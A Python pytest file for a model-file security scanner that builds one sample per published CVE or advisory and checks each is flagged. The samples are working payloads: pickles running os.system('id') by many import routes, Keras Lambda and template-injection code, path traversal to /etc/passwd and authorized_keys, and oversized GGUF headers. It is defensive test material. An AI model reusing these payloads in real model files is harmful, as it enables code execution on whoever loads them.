"""Every published bypass and CVE of model files that docs/detection.md names, as a small file of our own making: what is
found, and how grave. Run it alone to print the table of results."""
import base64
import json
import os
import struct
import subprocess
import sys

import pytest

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
PALISADE = os.environ.get("PALISADE", os.path.join(ROOT, "build", "release", "palisade"))
sys.path.insert(0, os.path.join(ROOT, "tests", "interop", "newset"))
import graphs  # noqa: E402
import layouts  # noqa: E402
import pickles  # noqa: E402
import templates  # noqa: E402
import wire  # noqa: E402
from pickles import Build, Global, call  # noqa: E402

LEVELS = ["info", "low", "medium", "high", "critical"]
SYSTEM = call("posix:system", "id")


def pickled(what, route="stack"):
    return pickles.write(what, route)


def gguf(key, value):
    return wire.gguf([(key, value)])


def keras(place, thing):
    return graphs.v3(graphs.KERAS_PLACES[place](thing))


def called(module, name, *arguments):
    """A function in a layer's place, which Keras calls with what is in inbound_nodes."""
    layer = {"name": "x", "module": module, "class_name": "function", "config": name, "registered_name": name,
             "inbound_nodes": [{"args": list(arguments), "kwargs": {}}]}
    return graphs.v3({"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
                      "config": {"name": "f", "layers": [layer], "input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0]]}})


def tampered_zip(change):
    """A torch file whose first member's headers are changed: (bytes, place of the local header, of the central one)."""
    b = bytearray(pickles.torch_zip(pickled(SYSTEM)))
    change(b, bytes(b).find(b"PK\3\4"), bytes(b).find(b"PK\1\2"))
    return bytes(b)


def other_name(b, local, central):
    b[local + 30] ^= 1


def flagged(b, local, central):
    b[local + 6] |= 1


def other_crc(b, local, central):
    b[local + 14] ^= 0x55
    b[central + 16] ^= 0x55


def torch_tensor(state):
    """A tensor as torch pickles it, and then items put into it."""
    return (b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
            b"K\x04tQK\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR" + state + b".")


def string_of(n):
    return struct.pack("<IQ", 8, n) + b"x"


def rds_promise():
    """serialize.c: version 3, then a promise (5): its environment is empty, its value unbound, its expression a call."""
    def text(s):
        return struct.pack(">II", 9 | 64 << 12, len(s)) + s
    call_of = struct.pack(">I", 6) + struct.pack(">I", 1) + text(b"system") + struct.pack(">I", 2) + \
        struct.pack(">II", 16, 1) + text(b"id") + struct.pack(">I", 254)
    return b"X\n" + struct.pack(">III", 3, 0x40202, 0x30500) + struct.pack(">I", 5) + b"utf-8" + struct.pack(">I", 5) + \
        struct.pack(">I", 252) + call_of


# id -> name of the file, content, rule, least severity
PUBLISHED = {
    "CVE-2019-6446": ("a.npy", pickles.npy(pickled(SYSTEM)), "PICKLE-EXEC", "critical"),
    "CVE-2020-13092": ("m.joblib", pickled(SYSTEM), "PICKLE-EXEC", "critical"),
    "CVE-2022-25882": ("m.onnx", graphs.ONNX_PLACES["initializer"](graphs.tensor("../../../etc/passwd")), "REF-TRAVERSAL", "high"),
    "CVE-2022-45907": ("m.pkl", pickled(call("torch.jit.annotations:parse_type_line", "# type: (id) -> int", None, 0)), "PICKLE-EXEC", "critical"),
    "CVE-2024-3660": ("m.keras", keras("layer", graphs.layer({"function": graphs.lambda_of(graphs.code_of("__import__('os').system('id')"))},
                                                              "x", "Lambda")), "KERAS-LAMBDA", "high"),
    "CVE-2024-5187": ("m.tar", wire.tarred([("../../.bashrc", b"x")]), "TAR-PATH", "high"),
    "CVE-2024-5480": ("m.pkl", pickled(call("torch.distributed.rpc:rpc_sync", "worker", Global("builtins", "eval"), ("1",))), "PICKLE-EXEC", "critical"),
    "CVE-2024-48063": ("m.pkl", pickled(call("torch.distributed.nn.api.remote_module:RemoteModule", "cpu", Global("os", "system"))), "PICKLE-DANGEROUS-IMPORT", "high"),
    "CVE-2024-21802": ("m.gguf", gguf("x", string_of(1 << 62)), "GGUF-HEADER", "high"),
    "CVE-2024-23496": ("m.gguf", gguf("x", string_of((1 << 64) - 1)), "GGUF-HEADER", "high"),
    "CVE-2024-21836": ("m.gguf", gguf("x", struct.pack("<IIQ", 9, 8, 1 << 61)), "GGUF-HEADER", "high"),
    "CVE-2024-21825": ("m.gguf", wire.gguf([], [("w", [1] * 60, 0, 0)]), "GGUF-HEADER", "high"),
    "CVE-2024-23605": ("m.gguf", wire.gguf([], counts=(1, (1 << 64) - 1)), "GGUF-HEADER", "high"),
    "CVE-2024-25664": ("m.gguf", wire.gguf([], counts=(1, 1 << 58)), "GGUF-HEADER", "high"),
    "CVE-2024-25665": ("m.gguf", wire.gguf([], counts=(1 << 58, 2)), "GGUF-HEADER", "high"),
    "CVE-2024-25666": ("m.gguf", gguf("x", struct.pack("<IIQ", 9, 4, 1 << 62)), "GGUF-HEADER", "high"),
    "CVE-2024-25667": ("m.gguf", gguf("x", struct.pack("<IIQ", 9, 10, 1 << 61)), "GGUF-HEADER", "high"),
    "CVE-2024-25668": ("m.gguf", wire.gguf([], [("w", [1 << 32, 1 << 32], 0, 0)]), "GGUF-TENSOR", "high"),
    "CVE-2024-27318": ("m.onnx", graphs.ONNX_PLACES["subgraph"](graphs.tensor("a/../../x")), "REF-TRAVERSAL", "high"),
    "CVE-2024-27322": ("m.rds", rds_promise(), "R-PROMISE", "high"),
    "CVE-2024-34359": ("m.gguf", gguf("tokenizer.chat_template", templates.WAYS["subclasses"].replace("%%", "%")), "TEMPLATE-SSTI", "critical"),
    "CVE-2024-34997": ("m.joblib", pickled(call("joblib.numpy_pickle_utils:_read_fileobject", "x", "x", "r")), "PICKLE-EXEC", "critical"),
    "CVE-2025-1550": ("m.keras", called("os", "system", "id"), "LOAD-EXEC", "critical"),
    "CVE-2025-1716": ("m.pkl", pickled(call("pip:main", ["install", "x"])), "PICKLE-EXEC", "critical"),
    "CVE-2025-1889": ("weights.config", pickled(SYSTEM), "PICKLE-EXEC", "critical"),
    "CVE-2025-1944": ("m.pt", tampered_zip(other_name), "PICKLE-EXEC", "critical"),
    "CVE-2025-1945": ("m.pt", tampered_zip(flagged), "PICKLE-EXEC", "critical"),
    "CVE-2025-8747": ("m.keras", called("keras.utils", "get_file", "x", "http://host.invalid/x"), "LOAD-EXEC", "critical"),
    "CVE-2025-9905": ("m.json", json.dumps(graphs.sequential([graphs.layer({"function": [graphs.code_of("1"), None, None], "function_type": "lambda"},
                                                                            "x", "Lambda")])).encode(), "KERAS-LAMBDA", "high"),
    "CVE-2025-9906": ("m.keras", called("keras.config", "enable_unsafe_deserialization"), "LOAD-EXEC", "critical"),
    "CVE-2025-10155": ("pytorch_model.bin", pickled(SYSTEM), "PICKLE-EXEC", "critical"),
    "CVE-2025-10156": ("m.pt", tampered_zip(other_crc), "PICKLE-EXEC", "critical"),
    "CVE-2025-10157": ("m.pkl", pickled(call("asyncio.unix_events:_UnixSubprocessTransport._start", None, ["id"], True)), "PICKLE-EXEC", "critical"),
    "CVE-2025-12058": ("m.keras", keras("layer", graphs.THINGS["vocabulary"]), "KERAS-FILE-OUTSIDE", "high"),
    "CVE-2025-23304": ("model_config.yaml", b"model:\n  _target_: os.system\n  command: id\n", "LOAD-EXEC", "critical"),
    "CVE-2025-32434": ("m.pt", wire.tarred([("pickle", pickled(SYSTEM, "inst")), ("sys_info", b""), ("storages", b""), ("tensors", b"")]), "PICKLE-EXEC", "critical"),
    "CVE-2025-49655": ("m.keras", keras("layer", graphs.thing("keras.layers", "TorchModuleWrapper", {"module": base64.b64encode(pickled(SYSTEM)).decode()})),
                       "KERAS-TORCH-MODULE", "high"),
    "CVE-2025-51480": ("m.onnx", graphs.ONNX_PLACES["initializer"](graphs.tensor("/root/.ssh/authorized_keys")), "REF-ABSOLUTE", "high"),
    "CVE-2025-53630": ("m.gguf", wire.gguf([], [("a", [1 << 20, 1 << 20, 1 << 20], 0, 0), ("b", [8], 0, 0)]), "GGUF-TENSOR", "high"),
    "CVE-2025-54412": ("schema.json", json.dumps({"__class__": "attrgetter", "__module__": "builtins", "__loader__": "OperatorFuncNode",
                                                  "content": {}, "_skops_version": "0.11"}).encode(), "SKOPS-OPERATOR", "high"),
    "CVE-2025-54413": ("schema.json", json.dumps({"__class__": "x", "__module__": "sklearn", "__loader__": "MethodNode", "content": {"func": "__init__.__globals__"},
                                                  "_skops_version": "0.11"}).encode(), "SKOPS-METHOD", "high"),
    "CVE-2025-54886": ("m.skops", pickled(SYSTEM), "PICKLE-EXEC", "critical"),
    "CVE-2026-1462": ("m.keras", keras("layer", graphs.THINGS["tfsm"]), "KERAS-SAVED-MODEL", "high"),
    "CVE-2026-24747": ("m.pkl", torch_tensor(b"K\x00K\x01s"), "PICKLE-ITEMS", "high"),
    "CVE-2026-27940": ("m.gguf", wire.gguf([], [("w%d" % i, [1 << 31, 1 << 29], 0, 0) for i in range(5)]), "GGUF-TENSOR", "high"),
    "CVE-2026-56315": ("m.pkl", pickled(call("uuid:_get_command_stdout", "id")), "PICKLE-EXEC", "critical"),
    "GHSA-vvpj-8cmc-gx39": ("m.pkl", pickled(pickles.Call(call("pkgutil:resolve_name", "os:system"), ("id",))), "PICKLE-EXEC", "critical"),
    "GHSA-46h3-79wf-xr6c": ("m.pkl", pickled(pickles.Call(call("_operator:attrgetter", "system"), (call("importlib:import_module", "os"),))), "PICKLE-EXEC", "critical"),
    "GHSA-97f8-7cmv-76j2": ("m.bin", pickled(call("builtins:eval", "0x1950a86a20f9469cfc6c"), "text") + b"\x80\x02M\xe9\x03.", "PICKLE-EXEC", "critical"),
    "GHSA-mxhj-88fx-4pcv": ("m.pkl", b"\x80\x02(cos\nsystem\nX\x02\x00\x00\x00ido0}.", "PICKLE-EXEC", "critical"),
    "GHSA-5j3x-jp52-966f": ("m.pkl", pickled(call("random:_os.system", "id")), "PICKLE-EXEC", "critical"),
    "GHSA-6ggj-6f2q-f7mx": ("m.pkl", pickled(call("_posixsubprocess:fork_exec", ["id"])), "PICKLE-EXEC", "critical"),
    "modelscan 85": ("m.pkl", b"\x80\x04\x8c\x06system\x94\x8c\x02os\x940\x8c\x04json\x940h\x01h\x00\x93\x8c\x02id\x85R.", "PICKLE-EXEC", "critical"),
    "modelscan 330": ("m.pkl", pickled(Build(Global("numpy", "size"), (None, {"__builtins__": {}}))), "PICKLE-BUILD", "high"),
}


def scan(folder):
    done = subprocess.run([PALISADE, "scan", "--format", "json", "."], cwd=folder, capture_output=True, timeout=300)
    return {os.path.normpath(a["path"]).split(os.sep)[0]: a["findings"] for a in json.loads(done.stdout)["artifacts"]}


@pytest.fixture(scope="module")
def found(tmp_path_factory):
    folder = tmp_path_factory.mktemp("published")
    for ident, (name, content, _, _) in PUBLISHED.items():
        (folder / ident).mkdir()
        (folder / ident / name).write_bytes(content)
    return scan(folder)


@pytest.mark.parametrize("ident", PUBLISHED)
def test_published(ident, found):
    _, _, rule, least = PUBLISHED[ident]
    said = [(f["rule"], f["severity"]) for f in found[ident]]
    assert any((rule is None or r == rule) and LEVELS.index(s) >= LEVELS.index(least) for r, s in said), said


def test_every_published_one_is_in_the_manual():
    with open(os.path.join(ROOT, "docs", "detection.md")) as f:
        manual = f.read()
    assert [i for i in PUBLISHED if i.replace("modelscan ", "modelscan #") not in manual] == []
